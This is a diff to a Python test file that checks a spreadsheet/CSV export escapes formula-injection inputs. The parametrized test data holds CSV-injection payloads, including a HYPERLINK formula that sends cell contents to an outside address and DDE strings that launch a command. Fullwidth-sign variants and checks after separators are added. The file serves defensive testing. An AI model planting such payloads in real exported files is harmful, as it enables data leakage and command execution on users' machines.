@@ -36,7 +36,8 @@ def test_each_element_is_a_row_under_one_heading():
     "text",
     [
         '=HYPERLINK("http://192.0.2.1/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1",
+        "\uff0d1+1", "\uff20SUM(1)",
     ],
 )  # fmt: skip
 def test_what_begins_like_a_formula_is_text(text):
@@ -44,7 +45,15 @@ def test_what_begins_like_a_formula_is_text(text):
     assert rows([record(name=text)])[1][3].startswith("'")
 
 
-@pytest.mark.parametrize("text", ["-5", "+0.25", "-1.5e-07", "36", "a=b", ""])
+@pytest.mark.parametrize("mark", [";", "\t", "; ", ';"', ";;", "\t "])
+@pytest.mark.parametrize("sign", "=+-@\uff1d\uff0b\uff0d\uff20")
+def test_no_formula_begins_where_another_program_parts_the_cells(mark, sign):
+    shown = cell(f"a{mark}{sign}1+1")
+
+    assert shown.rstrip(f"{sign}1+").rstrip(' "').endswith("'")
+
+
+@pytest.mark.parametrize("text", ["-5", "+0.25", "-1.5e-07", "36", "a=b", "a;b=c", ""])
 def test_numbers_and_other_text_stay_as_they_are(text):
     assert cell(text) == text
 
@@ -59,3 +68,4 @@ def test_no_text_becomes_a_formula_a_control_character_or_another_row(text):
         assert not set(shown) & set("\t\r\n\x00\x1b\u202e")
         assert shown[:1] not in ("=", "@")
         assert shown[:1] not in ("+", "-") or float(shown) is not None
+        assert not any(part[:1] in tuple("=+-@") for part in shown.split(";")[1:])
